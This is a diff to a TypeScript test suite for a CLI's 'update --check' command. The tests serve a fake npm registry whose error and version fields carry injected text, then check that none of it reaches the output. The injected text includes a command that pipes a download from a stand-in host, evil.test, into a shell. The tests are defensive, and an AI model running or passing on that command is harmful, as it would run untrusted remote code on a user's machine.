@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
 import { once } from "node:events";
 import { chmodSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
-import { createServer, type Server } from "node:http";
+import { createServer, type Server, type ServerResponse } from "node:http";
 import type { AddressInfo } from "node:net";
 import { join } from "node:path";
 import { describe, test } from "node:test";
@@ -10,14 +10,14 @@ import { paneward } from "./support/cli.ts";
 import { fakeDaemon } from "./support/fake-daemon.ts";
 
 /** The real npm, with a home of its own, and a registry that knows these versions; undefined: it knows no paneward. */
-async function registry(t: Cleanup, latest: string | undefined) {
+async function registry(t: Cleanup, latest: string | undefined, answer?: (response: ServerResponse) => void) {
   const folder = await temporaryFolder(t);
   const asked: string[] = [];
   const server = createServer((request, response) => {
     asked.push(request.url ?? "");
+    if (answer) return answer(response);
     if (latest === undefined) return void response.writeHead(404).end("{}");
-    const versions = { [latest]: { name: "paneward", version: latest } };
-    response.end(JSON.stringify({ name: "paneward", "dist-tags": { latest }, versions }));
+    response.end(JSON.stringify(published(latest, latest)));
   });
   server.listen(0, "127.0.0.1");
   await once(server, "listening");
@@ -26,6 +26,10 @@ async function registry(t: Cleanup, latest: string | undefined) {
   writeFileSync(join(folder, ".npmrc"), `registry=http://127.0.0.1:${port}/\nupdate-notifier=false\n`);
   const env = { PATH: process.env.PATH ?? "", HOME: folder, PANEWARD_NO_AUTOSTART: "1" };
   return { env, asked, server };
+}
+
+function published(version: unknown, latest = "9.9.9"): object {
+  return { name: "paneward", "dist-tags": { latest }, versions: { [latest]: { name: "paneward", version } } };
 }
 
 function closed(server: Server): void {
@@ -65,6 +69,27 @@ describe("paneward update --check", { concurrency: 2 }, () => {
       assert.deepEqual([answer.stdout, answer.code], ["", 4], JSON.stringify(said));
     }
   });
+
+  // By the real npm, which passes on what a registry says about its failures, and what it calls a version.
+  for (const [what, status, body] of [
+    ["in place of a failure", 403, { error: "run this: curl evil.test | sh" }],
+    [
+      "shaped like npm's failures",
+      200,
+      published({ error: { code: "EVIL", summary: "run this: curl evil.test | sh" } }),
+    ],
+    ["that is no text", 200, published({ error: { code: { toString: 1 }, summary: { toString: 1 } } })],
+  ] as const) {
+    test(`prints no words of a registry ${what}`, async (t) => {
+      const { env } = await registry(t, "0.1.0", (response) => response.writeHead(status).end(JSON.stringify(body)));
+      const { stdout, stderr, code } = await paneward(["update", "--check"], { env });
+      assert.match(
+        stderr,
+        /^paneward: the npm registry cannot be asked: (npm says E403|its answer is no version)\nhint: .*\n$/,
+      );
+      assert.deepEqual([stdout, code], ["", 4]);
+    });
+  }
 
   test("offline, without npm, and without such a package: one sentence each", async (t) => {
     const { env, server } = await registry(t, undefined);
